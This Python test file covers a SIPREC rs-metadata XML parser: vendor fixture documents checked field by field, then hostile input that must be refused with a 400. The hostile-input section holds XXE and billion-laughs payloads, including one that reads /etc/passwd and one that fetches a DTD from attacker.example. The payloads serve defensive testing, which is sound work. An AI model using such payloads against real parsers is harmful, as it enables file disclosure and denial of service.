"""rs-metadata parsing: every real vendor document in the shared fixtures, field by field, and hostile input.

Merging of updates and SDP label resolution are in test_metadata_state.py.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path
from xml.etree.ElementTree import fromstring as plain_fromstring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from siprec.sip.errors import SipError
from siprec.sip.multipart import parse_multipart
from siprec.srs.metadata import (
    MetadataError,
    RecordingMetadata,
    parse_metadata,
    speaker_name,
)
from tests.unit.srs.siprec_bodies import metadata_documents, metadata_part, xmlish

RFC_NS = "urn:ietf:params:xml:ns:recording:1"
ORACLE_NS = "urn:ietf:params:xml:ns:recording"
BROADWORKS_NS = "urn:ietf:params:xml:ns:siprec"


# ---------------------------------------------------------------------------------------------------------------
# Fixture access (multipart splitting lives in tests/unit/srs/siprec_bodies.py)


@pytest.fixture(scope="module")
def siprec_dir(fixtures_dir: Path) -> Path:
    return fixtures_dir / "siprec"


# ---------------------------------------------------------------------------------------------------------------
# What each fixture really says (read off the files)


@dataclass
class Expect:
    root: str
    namespace: str
    # (id, aor, name, send, recv, associate_time, disassociate_time)
    participants: list[tuple[str, str | None, str | None, list[str], list[str], str | None, str | None]]
    streams: list[tuple[str, str | None, str | None, str | None]]  # (id, label, session_id, mode)
    # (id, sip_session_ids, group_ref, start_time, associate_time)
    sessions: list[tuple[str, list[str], str | None, str | None, str | None]]
    groups: list[tuple[str, str | None]] = field(default_factory=list)  # (id, associate_time)
    session_assocs: list[tuple[str, str | None, str | None, str | None]] = field(default_factory=list)
    stream_assocs: list[tuple[str, list[str], list[str]]] = field(default_factory=list)
    data_mode: str = "complete"


ACME_S = "AavRXwIIQj1Q39eJulTipQ=="
ACME = Expect(
    root="recording",
    namespace=ORACLE_NS,
    participants=[
        ("fSD3PFErSjNTHLDiXCELjw==", "sip:9000@192.168.50.102", "9000", ["Q4O8SGLQSilXHUGQX2zd8Q=="], [],
         "2019-03-09T16:50:20", None),
        ("EbccNyypRlFYXTm4iw8hxw==", "sip:1002@192.168.50.10", "1002", ["l1NyQy8ORSlouUj2G3UE/A=="], [],
         "2019-03-09T16:50:20", None),
    ],
    streams=[
        ("Q4O8SGLQSilXHUGQX2zd8Q==", "16777227", ACME_S, "separate"),
        ("l1NyQy8ORSlouUj2G3UE/A==", "16777228", ACME_S, "separate"),
    ],
    sessions=[(ACME_S, [], None, None, "2019-03-09T16:50:20")],
)  # fmt: skip

AVAYA_S = "0rBXFi0CTBB0j8HyGBBrlg=="
AVAYA = Expect(
    root="recording",
    namespace=ORACLE_NS,
    participants=[
        ("ARlTfnirTkxisET9jl8njg==", "sip:31624895902@10.10.128.62", "31624895902", ["0CWQGFVzQf5hAGoO9gnx8g=="],
         [], "2020-03-27T13:56:05", None),
        ("L1OKBsjoTO11Pn5uow6ptQ==", "sip:33187164021@sip.webhelpgroupe.lan", "33187164021",
         ["oOmIeCrQRZ1zaHo/DHE5og=="], [], "2020-03-27T13:56:05", None),
    ],
    streams=[
        ("0CWQGFVzQf5hAGoO9gnx8g==", "201835599", AVAYA_S, "separate"),
        ("oOmIeCrQRZ1zaHo/DHE5og==", "201835600", AVAYA_S, "separate"),
    ],
    sessions=[(AVAYA_S, [], None, None, "2020-03-27T13:56:05")],
)  # fmt: skip

SBCE_S = "00FA0800705D4C5DCAAC41"
AVAYA_SBCE = Expect(
    root="recording",
    namespace=RFC_NS,
    participants=[
        ("9a2de728ba0bc348db1e", "sip:9878942259@212.188.68.145", None, ["e6988909e02ca808ec0a"], [],
         "2019-11-12T15:57:37", None),
        ("abcdef12345678901234", "sip:ASBCE@asbce.com", None, ["261ddd3615629f108092"], [],
         "2019-11-12T15:57:37", None),
    ],
    streams=[("e6988909e02ca808ec0a", "10", SBCE_S, None), ("261ddd3615629f108092", "20", SBCE_S, None)],
    sessions=[(SBCE_S, [], None, None, "2019-11-12T15:57:37")],
    session_assocs=[
        ("9a2de728ba0bc348db1e", SBCE_S, "2019-11-12T15:57:37", None),
        ("abcdef12345678901234", SBCE_S, "2019-11-12T15:57:37", None),
    ],
    stream_assocs=[
        ("9a2de728ba0bc348db1e", ["e6988909e02ca808ec0a"], []),
        ("abcdef12345678901234", ["261ddd3615629f108092"], []),
    ],
)  # fmt: skip

CISCO_S = "kQNhKFdEEeeJ9tD/VsPGWA=="
CISCO_T = "2017-06-23T12:16:06.040Z"
CISCO = Expect(
    root="recording",
    namespace=RFC_NS,
    participants=[
        ("kQNhKFdEEeeJ99D/VsPGWA==", "sip:7301@35.162.237.204", None, ["kQOH5VdEEeeJ/ND/VsPGWA=="],
         ["kQOH5VdEEeeJ/dD/VsPGWA=="], CISCO_T, None),
        ("kQNhKFdEEeeJ+ND/VsPGWA==", "sip:7300@35.162.237.204", "7300", ["kQOH5VdEEeeJ/dD/VsPGWA=="],
         ["kQOH5VdEEeeJ/ND/VsPGWA=="], CISCO_T, None),
    ],
    streams=[("kQOH5VdEEeeJ/ND/VsPGWA==", "1", CISCO_S, None), ("kQOH5VdEEeeJ/dD/VsPGWA==", "2", CISCO_S, None)],
    sessions=[(CISCO_S, ["e9fffff2020a598b86962867715db0cf;remote=cd0f7093d62c5f0697098fd69a4aa57b"], None,
               CISCO_T, None)],
    session_assocs=[
        ("kQNhKFdEEeeJ99D/VsPGWA==", CISCO_S, CISCO_T, None),
        ("kQNhKFdEEeeJ+ND/VsPGWA==", CISCO_S, CISCO_T, None),
    ],
    stream_assocs=[
        ("kQNhKFdEEeeJ99D/VsPGWA==", ["kQOH5VdEEeeJ/ND/VsPGWA=="], ["kQOH5VdEEeeJ/dD/VsPGWA=="]),
        ("kQNhKFdEEeeJ+ND/VsPGWA==", ["kQOH5VdEEeeJ/dD/VsPGWA=="], ["kQOH5VdEEeeJ/ND/VsPGWA=="]),
    ],
)  # fmt: skip

INTRADO_S = "ZGI2NDQ1MzItODBmOC00ZDBhLTlhMDMtNjg2"
INTRADO_P = "YTllOTVhZTgtZjY4MS00YTBjLWIxOGUtYTQw"
INTRADO_ST = "ZDY2YTc1YTMtYTAzZi00ZDQwLTkzNmYtYTFm"
INTRADO_T = "2022-07-21T12:36:06-06:00"
INTRADO = Expect(
    root="recording",
    namespace=RFC_NS,
    # aor is not a URI; <name xml:lang="en"></name> is empty; it both sends and receives its one stream
    participants=[(INTRADO_P, "4058327108@10.105.190.136:5060", None, [INTRADO_ST], [INTRADO_ST], INTRADO_T, None)],
    streams=[(INTRADO_ST, "1", INTRADO_S, None)],
    sessions=[(INTRADO_S, [], "ZWIxYWRkOTAtYjg4Ny00ZWVhLWFjYWMtZWRl", INTRADO_T, INTRADO_T)],
    groups=[("ZWIxYWRkOTAtYjg4Ny00ZWVhLWFjYWMtZWRl", INTRADO_T)],
    session_assocs=[(INTRADO_P, INTRADO_S, INTRADO_T, None)],
    stream_assocs=[(INTRADO_P, [INTRADO_ST], [INTRADO_ST])],
)  # fmt: skip

NS720_S = "20260720172939050790"
NETSAPIENS_0720 = Expect(
    root="recording",
    namespace=RFC_NS,
    participants=[
        ("1003@dwang.netsapiens.com", "sip:1003@dwang.netsapiens.com", "Luke Skywalker", [], [], None, None),
        ("1001@dwang.netsapiens.com", "sip:1001w@dwang.netsapiens.com", "Din Djarin", [], [], None, None),
    ],
    streams=[("SkvmlWgijIQuKcHP00654B", "1", NS720_S, None), ("tym50Xsy4eco8tK800654D", "2", NS720_S, None)],
    sessions=[(NS720_S, [], "d9836b259df931287df49822bd3a5e16", None, None)],
    groups=[("d9836b259df931287df49822bd3a5e16", "2026-07-20T17:29:39Z")],
)

NETSAPIENS_0722 = Expect(
    root="recording",
    namespace=RFC_NS,
    participants=[
        ("1003@dwang.netsapiens.com", "sip:1003w@dwang.netsapiens.com", "Luke Skywalker", [], [], None, None),
        ("1002@dwang.netsapiens.com", "sip:1002@dwang.netsapiens.com", "Boba Fett", [], [], None, None),
    ],
    streams=[],  # no streams at all
    sessions=[("20260722210808064141", [], None, None, None)],
)

CONNECTEL_S = "2+hKdGY+QvCKu8HYTdBouQ=="


def connectel(name: str) -> Expect:
    return Expect(
        root="recording",
        namespace=RFC_NS,
        participants=[
            ("WEWTz80cS1Cqdyepmu3STQ==", "sip:0771121212@52.57.92.239", name, [], [], None, None),
            ("21Isz6eFRYuiDN0vEkVXQQ==", "sip:0760516936@sip-cust1.connectel.io", None, [], [], None, None),
        ],
        streams=[
            ("EkG6jSRhQqCupqs53tna1w==", "1", CONNECTEL_S, None),
            ("4CLOddBJRvGyTJJxPE2ZSw==", "2", CONNECTEL_S, None),
        ],
        sessions=[(CONNECTEL_S, ["2d8abbf0769c66e15bb349f509693d60@52.57.92.239"], None, None, None)],
    )


PROCOMM_S = "ho9aUhEQTRS+31th7sHStA=="
PROCOMM_A, PROCOMM_B = "HdU6Bt7GTZiHcNe4R2LHdA==", "T6T6syCpRSGH1J+gwLFaIQ=="
PROCOMM = Expect(
    root="recording",
    namespace=RFC_NS,
    participants=[
        ("Ye5S5pU+SAG2JY4oG7M4Cw==", "sip:016190200@87.252.209.116", "016190200", [PROCOMM_A], [PROCOMM_B], None,
         None),
        ("QDhKextjTa+F1TzXuvHZHw==", "Extension-016190619@speechpath.ie", "Speechpath-Main-Line 016190619",
         [PROCOMM_B], [PROCOMM_A], None, None),
    ],
    streams=[(PROCOMM_A, "a_leg", PROCOMM_S, None), (PROCOMM_B, "b_leg", PROCOMM_S, None)],
    sessions=[(PROCOMM_S, [], None, "2017-12-11T14:44:23Z", None)],
    session_assocs=[("Ye5S5pU+SAG2JY4oG7M4Cw==", PROCOMM_S, None, None),
                    ("QDhKextjTa+F1TzXuvHZHw==", PROCOMM_S, None, None)],
    stream_assocs=[("Ye5S5pU+SAG2JY4oG7M4Cw==", [PROCOMM_A], [PROCOMM_B]),
                   ("QDhKextjTa+F1TzXuvHZHw==", [PROCOMM_B], [PROCOMM_A])],
)  # fmt: skip

SONUS_S = "MTQ3YzA3YzEtNjdkNy0xMA=="
SONUS_1, SONUS_2 = "MTQ3YzA3YzQtNjdkNy0xMA==", "MTQ3YzA3YzUtNjdkNy0xMA=="
SONUS_T = "1970-05-13T03:29:05Z"
SONUS = Expect(
    root="recording",
    namespace=ORACLE_NS,
    # "Extension 8500" sends the stream labelled 2; the other party (name " " = junk) sends label 1
    participants=[
        ("MTQ3YzA3YzItNjdkNy0xMA==", "2249888500@172.16.198.55", "Extension 8500", [SONUS_2], [SONUS_1], SONUS_T,
         None),
        ("MTQ3YzA3YzMtNjdkNy0xMA==", "2249888012@172.16.195.72", None, [SONUS_1], [SONUS_2], SONUS_T, None),
    ],
    streams=[(SONUS_1, "1", SONUS_S, None), (SONUS_2, "2", SONUS_S, None)],
    sessions=[(SONUS_S, [], "MTQ3YzA3YzAtNjdkNy0xMA==", SONUS_T, SONUS_T)],
    groups=[("MTQ3YzA3YzAtNjdkNy0xMA==", SONUS_T)],
    session_assocs=[("MTQ3YzA3YzItNjdkNy0xMA==", SONUS_S, SONUS_T, None),
                    ("MTQ3YzA3YzMtNjdkNy0xMA==", SONUS_S, SONUS_T, None)],
    stream_assocs=[("MTQ3YzA3YzItNjdkNy0xMA==", [SONUS_2], [SONUS_1]),
                   ("MTQ3YzA3YzMtNjdkNy0xMA==", [SONUS_1], [SONUS_2])],
)  # fmt: skip

INACTIVE_S = "GZBIusaXEeuxxK1dFIaIyA=="
INACTIVE_T = "2021-06-07T07:16:23.618Z"
INACTIVE = Expect(
    root="recording",
    namespace=RFC_NS,
    # empty <participantstreamassoc> elements: nobody is linked to a stream
    participants=[
        ("GZBIusaXEeuxxa1dFIaIyA==", "sip:0733165805@192.168.40.34", None, [], [], INACTIVE_T, None),
        ("GZBIusaXEeuxxq1dFIaIyA==", "sip:+972546136443@192.168.10.140", None, [], [], INACTIVE_T, None),
    ],
    streams=[("GbZGg8aXEeuxy61dFIaIyA==", "1", INACTIVE_S, None), ("GbZGg8aXEeuxzK1dFIaIyA==", "2", INACTIVE_S, None)],
    sessions=[(INACTIVE_S, ["f845891467cf5c2189987435807bd432;remote=1aa1123b8825c906d03681ba23102629"], None,
               INACTIVE_T, None)],
    session_assocs=[("GZBIusaXEeuxxa1dFIaIyA==", INACTIVE_S, INACTIVE_T, None),
                    ("GZBIusaXEeuxxq1dFIaIyA==", INACTIVE_S, INACTIVE_T, None)],
    stream_assocs=[("GZBIusaXEeuxxa1dFIaIyA==", [], []), ("GZBIusaXEeuxxq1dFIaIyA==", [], [])],
)  # fmt: skip

RFC_S = "hVpd7YQgRW2nD22h7q60JQ=="
BOB, PAUL = "srfBElmCRp2QB23b7Mpk0w==", "zSfPoSvdSDCmU3A3TRDxAw=="
S96, S97, S98, S99 = (
    "UAAMm5GRQKSCMVvLyl4rFw==",
    "i1Pz3to5hGk8fuXl+PbwCw==",
    "8zc6e0lYTlWIINA6GR+3ag==",
    "EiXGlc+4TruqqoDaNE76ag==",
)
RFC_T = "2010-12-16T23:41:07Z"
RFC_81 = Expect(
    root="recording",
    namespace=RFC_NS,
    participants=[
        (BOB, "sip:bob@biloxi.com", "Bob", [S97, S96], [S98, S99], RFC_T, None),
        (PAUL, "sip:Paul@biloxi.com", "Paul", [S98, S99], [S96, S97], RFC_T, None),
    ],
    streams=[(S96, "96", RFC_S, None), (S97, "97", RFC_S, None), (S98, "98", RFC_S, None), (S99, "99", RFC_S, None)],
    sessions=[(RFC_S, ["ab30317f1a784dc48ff824d0d3715d86;remote=47755a9de7794ba387653f2099600ef2"],
               "7+OTCyoxTmqmqyA/1weDAg==", None, RFC_T)],
    groups=[("7+OTCyoxTmqmqyA/1weDAg==", RFC_T)],
    session_assocs=[(BOB, RFC_S, RFC_T, None), (PAUL, RFC_S, RFC_T, None)],
    stream_assocs=[(BOB, [S97, S96], [S98, S99]), (PAUL, [S98, S99], [S96, S97])],
)  # fmt: skip

RFC_82 = Expect(
    root="recording",
    namespace=RFC_NS,
    data_mode="partial",
    participants=[(BOB, "sip:bob@biloxi.com", "Bob", [], [], None, RFC_T)],
    streams=[],
    sessions=[],
    session_assocs=[(BOB, RFC_S, None, RFC_T)],
)

METADATA_FILES = {
    "Rfc7865-8.1.xml": RFC_81,
    "Rfc7865-8.2.xml": RFC_82,
    "acme_from_drachtio.xml": ACME,
    "avaya-sbce_broadworks-offer-2_from_drachtio.xml": AVAYA_SBCE,
    "avaya_from_drachtio.xml": AVAYA,
    "cisco_from_drachtio.xml": CISCO,
    "intrado_from_drachtio.xml": INTRADO,
    "netsapiens_v1.0_call0720_from_vcon-siprec-adapter.xml": NETSAPIENS_0720,
    "netsapiens_v1.0_call0722_from_vcon-siprec-adapter.xml": NETSAPIENS_0722,
    "opensips_connectel_from_drachtio.xml": connectel("test_user;lang=en-US;id=22"),
    "procomm_from_drachtio.xml": PROCOMM,
    "sonus_from_drachtio.xml": SONUS,
}

INVITES = {
    "acme-siprec-offer.txt": ACME,
    "avaya-siprec-offer.txt": AVAYA,
    "broadworks-offer-2.txt": AVAYA_SBCE,
    "cisco-siprec-offer.txt": CISCO,
    "connectel-offer.txt": connectel("test_user;lang=en-US;id=22"),
    "connectel-offer2.txt": connectel("test_user;lang=en-US"),
    "connectel-offer3.txt": connectel("test_user"),
    "inactive-sdp-offer.txt": INACTIVE,
    "intrado-siprec-invite.txt": INTRADO,  # a whole INVITE; metadata as application/rs-metadata
    "procomm-siprec-offer.txt": PROCOMM,
    "sonus-siprec-offer.txt": SONUS,
}


def check(doc: RecordingMetadata, want: Expect) -> None:
    assert doc.data_mode == want.data_mode
    assert (doc.root, doc.namespace) == (want.root, want.namespace)
    got_p = [
        (p.id, p.aor, p.name, p.send, p.recv, p.associate_time, p.disassociate_time) for p in doc.participants
    ]
    assert got_p == want.participants
    assert [(s.id, s.label, s.session_id, s.mode) for s in doc.streams] == want.streams
    got_s = [(s.id, s.sip_session_ids, s.group_ref, s.start_time, s.associate_time) for s in doc.sessions]
    assert got_s == want.sessions
    assert all(s.stop_time is None and s.disassociate_time is None for s in doc.sessions)
    assert [(g.id, g.associate_time) for g in doc.groups] == want.groups
    got_sa = [(a.participant_id, a.session_id, a.associate_time, a.disassociate_time)
              for a in doc.participant_session_assocs]  # fmt: skip
    assert got_sa == want.session_assocs
    assert [(a.participant_id, a.send, a.recv) for a in doc.participant_stream_assocs] == want.stream_assocs


@pytest.mark.parametrize("name", sorted(METADATA_FILES))
def test_metadata_fixture(siprec_dir: Path, name: str) -> None:
    check(parse_metadata((siprec_dir / "metadata" / name).read_bytes()), METADATA_FILES[name])


@pytest.mark.parametrize("name", sorted(INVITES))
def test_invite_metadata_part(siprec_dir: Path, name: str) -> None:
    body = metadata_part((siprec_dir / "invites" / name).read_text())
    assert body is not None
    check(parse_metadata(body), INVITES[name])


def test_every_fixture_is_covered(siprec_dir: Path) -> None:
    assert {p.name for p in (siprec_dir / "metadata").glob("*.xml")} == set(METADATA_FILES)
    with_metadata = {
        p.name
        for p in (siprec_dir / "invites").glob("*.txt")
        if "recording" in p.read_text() and "<" in p.read_text()
    }
    assert with_metadata == set(INVITES) | {"broadworks-offer.txt"}


def test_corrupted_broadworks_body_parses_to_no_participants(siprec_dir: Path) -> None:
    # The captured body lost every child tag: `<recording_metadata xmlns=...siprec>completeSRCselective...</...>`.
    # It is well-formed XML with an accepted root, so it is not refused: the call records with participants unknown.
    body = metadata_part((siprec_dir / "invites" / "broadworks-offer.txt").read_text())
    assert body is not None and body.startswith(b'<recording_metadata xmlns="urn:ietf:params:xml:ns:siprec">')
    doc = parse_metadata(body)
    assert (doc.root, doc.namespace, doc.data_mode) == ("recording_metadata", BROADWORKS_NS, "complete")
    assert doc.participants == [] and doc.streams == [] and doc.sessions == [] and doc.groups == []
    assert (
        doc.participant_session_assocs == [] and doc.participant_stream_assocs == [] and doc.extensions == []
    )


def test_fixture_splitter_agrees_with_the_multipart_parser(siprec_dir: Path) -> None:
    # The test helper must cut the same metadata part as siprec.sip.multipart does in production.
    for name in sorted(INVITES):
        text = (siprec_dir / "invites" / name).read_text()
        boundary = re.search(r"^--(\S+?)\s*$", text, re.M)
        assert boundary is not None
        body = text.partition("\n\n")[2] if text.startswith("INVITE ") else text
        parts = parse_multipart(f"multipart/mixed;boundary={boundary[1]}", body.encode())
        (meta,) = [p for p in parts if p.disposition == "recording-session"]
        assert meta.content_type in ("application/rs-metadata+xml", "application/rs-metadata")
        assert parse_metadata(meta.body) == parse_metadata(metadata_part(text) or b""), name


def test_corrupted_broadworks_invite_is_refused_by_the_multipart_layer_first(siprec_dir: Path) -> None:
    # In production this INVITE never reaches parse_metadata: its part's Content-Type `application/ +xml` is a 400
    # at the multipart layer. Either way the SRC gets a 400 or a recording with participants unknown, never a crash.
    text = (siprec_dir / "invites" / "broadworks-offer.txt").read_text()
    with pytest.raises(SipError) as exc:
        parse_multipart("multipart/mixed;boundary=UniqueBroadWorksBoundary", text.encode())
    assert exc.value.status == 400


def test_non_siprec_sdp_body_is_not_metadata(siprec_dir: Path) -> None:
    body = (siprec_dir / "invites" / "non-siprec-payload.txt").read_bytes()
    assert refused(body).warning.startswith("rs-metadata: not well-formed XML")


# ---------------------------------------------------------------------------------------------------------------
# Extension data kept raw


def test_rfc_extensions_kept_as_xml(siprec_dir: Path) -> None:
    doc = parse_metadata((siprec_dir / "metadata" / "Rfc7865-8.1.xml").read_bytes())
    group_ext = [plain_fromstring(x) for x in doc.groups[0].extensions]
    assert [e.tag for e in group_ext] == [
        "{urn:ietf:params:xml:ns:callcenter}call-center",
        "{http://example.com/my}mydata",
    ]
    assert group_ext[0].findtext("{urn:ietf:params:xml:ns:callcenter}supervisor") == "sip:alice@atlanta.com"
    for holder in (doc.sessions[0], *doc.participants):
        (ext,) = holder.extensions
        elem = plain_fromstring(ext)
        assert elem.tag == "{http://example.com/my}mydata"
        assert elem.findtext("{http://example.com/my}structure") == "FOO!"
        assert elem.findtext("{http://example.com/my}whatever") == "bar"
    assert doc.extensions == [] and all(s.extensions == [] for s in doc.streams)


def test_oracle_extensiondata_kept(siprec_dir: Path) -> None:
    doc = parse_metadata((siprec_dir / "metadata" / "avaya_from_drachtio.xml").read_bytes())
    apkt = "{http://acmepacket.com/siprec/extensiondata}"
    (session_ext,) = doc.sessions[0].extensions
    assert plain_fromstring(session_ext).findtext(apkt + "ucid") == "00FA081003B9CF5E7DF7E5;encoding=hex"
    calling = [plain_fromstring(p.extensions[0]).findtext(apkt + "callingParty") for p in doc.participants]
    assert calling == ["true", "false"]
    header = plain_fromstring(doc.participants[0].extensions[0]).find(apkt + "header")
    assert header is not None and header.get("label") == "Call-ID"


def test_top_level_and_unknown_participant_children_kept(siprec_dir: Path) -> None:
    doc = parse_metadata(
        (siprec_dir / "metadata" / "netsapiens_v1.0_call0720_from_vcon-siprec-adapter.xml").read_bytes()
    )
    (ext,) = doc.extensions
    ns = "{http://schema.netsapiens.com/netsapiensSipRec}"
    elem = plain_fromstring(ext)
    assert elem.tag == ns + "netsapiensExtension" and elem.get("version") == "1.0"
    assert elem.findtext(ns + "callingPartyNumber") == "8587645225"
    intrado = parse_metadata((siprec_dir / "metadata" / "intrado_from_drachtio.xml").read_bytes())
    kept = [plain_fromstring(x) for x in intrado.participants[0].extensions]
    assert [(e.tag.rsplit("}", 1)[-1], e.text) for e in kept] == [
        ("channel", "SIP/911202-073e"),
        ("role", "calling"),
    ]
    sonus = parse_metadata((siprec_dir / "metadata" / "sonus_from_drachtio.xml").read_bytes())
    call_data = plain_fromstring(sonus.groups[0].extensions[0])
    assert (
        call_data.findtext("{urn:ietf:params:xml:ns:callData}callid")
        == "2da553f7-a48b-1235-d6a2-5254003a4988"
    )


# ---------------------------------------------------------------------------------------------------------------
# Vendor variants not covered by a clean capture


BROADWORKS_STYLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<recording_metadata xmlns="urn:ietf:params:xml:ns:siprec">
  <dataMode>partial</dataMode>
  <session id="urn:uuid:e76f6cf1"><start-time>2019-01-13T14:48:35-05:00</start-time></session>
  <participant id="p1" session="urn:uuid:e76f6cf1">
    <aor>sip:+15550001@sbc.example</aor>
    <name>DemoCorp Demo</name>
    <send><id>st1</id></send>
    <recv><id>st1</id></recv>
  </participant>
  <participant id="p2" session="urn:uuid:e76f6cf1">
    <aor>sip:+15550002@sbc.example;user=phone</aor>
    <send><id>st1</id></send>
  </participant>
  <stream id="st1" session="urn:uuid:e76f6cf1"><label>1</label><mode>mixed</mode></stream>
</recording_metadata>"""


def test_broadworks_style_aor_and_send_id() -> None:
    # Shaped after the words left in the corrupted capture (complete/partial, label 1, mixed) and the brief.
    doc = parse_metadata(BROADWORKS_STYLE)
    assert (doc.root, doc.namespace, doc.data_mode) == ("recording_metadata", BROADWORKS_NS, "partial")
    got = [(p.id, p.aor, p.name, p.send, p.recv) for p in doc.participants]
    assert got == [
        ("p1", "sip:+15550001@sbc.example", "DemoCorp Demo", ["st1"], ["st1"]),
        ("p2", "sip:+15550002@sbc.example;user=phone", None, ["st1"], []),
    ]
    assert [(s.id, s.label, s.session_id, s.mode) for s in doc.streams] == [
        ("st1", "1", "urn:uuid:e76f6cf1", "mixed")
    ]
    assert [(s.id, s.start_time) for s in doc.sessions] == [
        ("urn:uuid:e76f6cf1", "2019-01-13T14:48:35-05:00")
    ]


@pytest.mark.parametrize(
    ("mode_xml", "expected"),
    [
        ("<datamode>complete</datamode>", "complete"),
        ("<dataMode>partial</dataMode>", "partial"),
        ("<DATAMODE> Partial </DATAMODE>", "partial"),
        ("", "complete"),  # absent: RFC 7865 default
        ("<datamode>bogus</datamode>", "complete"),
    ],
)
def test_data_mode_variants(mode_xml: str, expected: str) -> None:
    doc = parse_metadata(f'<recording xmlns="{RFC_NS}">{mode_xml}</recording>'.encode())
    assert doc.data_mode == expected


def test_no_namespace_and_unusable_participants() -> None:
    doc = parse_metadata(
        b"<recording><participant/><participant><nameID/></participant>"
        b'<participant><nameID aor="7602922416"/></participant><stream/></recording>'
    )
    # Participants with nothing to show are dropped; one with only an aor gets a synthetic id.
    assert [(p.id, p.aor, p.name) for p in doc.participants] == [("#participant-0", "7602922416", None)]
    assert doc.namespace == "" and doc.streams == []


def test_duplicate_links_and_whitespace_are_normalised() -> None:
    doc = parse_metadata(
        f"""<recording xmlns="{RFC_NS}"><participant participant_id=" p1 ">
        <nameID aor="  sip:a@b  "><name>  Ann  </name></nameID><send>s1</send></participant>
        <participantstreamassoc participant_id="p1"><send> s1 </send><send>s2</send><recv/></participantstreamassoc>
        <stream stream_id="s1"><label> 7 </label></stream></recording>""".encode()
    )
    (p,) = doc.participants
    assert (p.id, p.aor, p.name, p.send, p.recv) == ("p1", "sip:a@b", "Ann", ["s1", "s2"], [])
    assert doc.streams[0].label == "7"


# ---------------------------------------------------------------------------------------------------------------
# speaker_name


def test_speaker_name_fallbacks(siprec_dir: Path) -> None:
    sonus = parse_metadata((siprec_dir / "metadata" / "sonus_from_drachtio.xml").read_bytes())
    assert [speaker_name(p) for p in sonus.participants] == ["Extension 8500", "2249888012@172.16.195.72"]
    cisco = parse_metadata((siprec_dir / "metadata" / "cisco_from_drachtio.xml").read_bytes())
    assert [speaker_name(p) for p in cisco.participants] == ["sip:7301@35.162.237.204", "7300"]
    intrado = parse_metadata((siprec_dir / "metadata" / "intrado_from_drachtio.xml").read_bytes())
    assert speaker_name(intrado.participants[0]) == "4058327108@10.105.190.136:5060"
    bare = parse_metadata(
        b'<recording><participant participant_id="only-id"><name> </name></participant></recording>'
    )
    assert speaker_name(bare.participants[0]) == "only-id"


# ---------------------------------------------------------------------------------------------------------------
# Hostile and broken input: always MetadataError 400 with a warning that says what


def refused(data: bytes, **kwargs: int) -> MetadataError:
    with pytest.raises(MetadataError) as exc:
        parse_metadata(data, **kwargs)
    err = exc.value
    assert isinstance(err, SipError) and err.status == 400
    assert '"' not in err.warning and "\n" not in err.warning  # safe inside a Warning header
    return err


DTD_MESSAGE = "rs-metadata: DTD/entities not allowed"

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"><participant participant_id="p">
<nameID aor="&e;"/></participant></recording>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<recording><datamode>&lol9;</datamode></recording>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<recording/>"""


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, PARAMETER_ENTITY, b"<!DOCTYPE recording><recording/>",
     b'<!DOCTYPE recording SYSTEM "http://attacker.example/r.dtd"><recording/>'],
    ids=["xxe", "billion-laughs", "parameter-entity", "plain-dtd", "external-dtd"],
)  # fmt: skip
def test_dtd_and_entities_refused(data: bytes) -> None:
    assert refused(data).warning == DTD_MESSAGE


def test_too_large() -> None:
    doc = b"<recording>" + b" " * (256 * 1024) + b"</recording>"
    err = refused(doc)
    assert err.warning == f"rs-metadata: document too large ({len(doc)} bytes, limit 262144)"
    assert (
        refused(b"<recording/>", max_bytes=5).warning == "rs-metadata: document too large (12 bytes, limit 5)"
    )
    assert parse_metadata(b"<recording/>", max_bytes=12).participants == []


@pytest.mark.parametrize(
    "data",
    [b"hello", b"<recording>", b"<recording></participant>", b"\xff\xfe\x00<", b"<a/><b/>",
     b'<?xml version="1.0" encoding="klingon"?><recording/>',
     b'<?xml version="1.0" encoding="UTF-8"?><recording><name>\xff</name></recording>'],
)  # fmt: skip
def test_not_xml(data: bytes) -> None:
    assert refused(data).warning.startswith("rs-metadata: not well-formed XML (")


@pytest.mark.parametrize("data", [b"", b"  \r\n\t"])
def test_empty(data: bytes) -> None:
    assert refused(data).warning == "rs-metadata: empty document"


@pytest.mark.parametrize(
    ("data", "name"),
    [(b"<html><body/></html>", "html"), (b'<x:participant xmlns:x="urn:ietf:params:xml:ns:recording:1"/>', "participant"),
     (b'<?xml version="1.0"?><sdp>v=0</sdp>', "sdp")],
)  # fmt: skip
def test_wrong_root(data: bytes, name: str) -> None:
    assert refused(data).warning == f"rs-metadata: root element must be <recording>, got <{name}>"


def test_deep_nesting_refused() -> None:
    depth = 20_000
    data = b"<recording>" + b"<a>" * depth + b"</a>" * depth + b"</recording>"
    assert refused(data).warning == "rs-metadata: elements nested deeper than 64 levels"


def test_error_is_a_sip_error_the_uas_can_answer() -> None:
    err = refused(XXE)
    assert str(err) == f"400 {DTD_MESSAGE}"
    assert err.headers == []


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_only_raise_metadata_error(data: bytes) -> None:
    try:
        parse_metadata(data)
    except MetadataError as err:
        assert err.status == 400


@settings(max_examples=300, deadline=None)
@given(xmlish())
def test_xmlish_documents_only_raise_metadata_error(data: bytes) -> None:
    try:
        doc = parse_metadata(data)
    except MetadataError as err:
        assert err.status == 400
        return
    assert doc.data_mode in ("complete", "partial")
    assert all(p.id for p in doc.participants) and all(s.id for s in doc.streams)


@settings(max_examples=300, deadline=None)
@given(metadata_documents())
def test_generated_well_formed_documents_always_parse(data: bytes) -> None:
    # No DTD and an accepted root: whatever the content, it is a model (possibly empty), never an error.
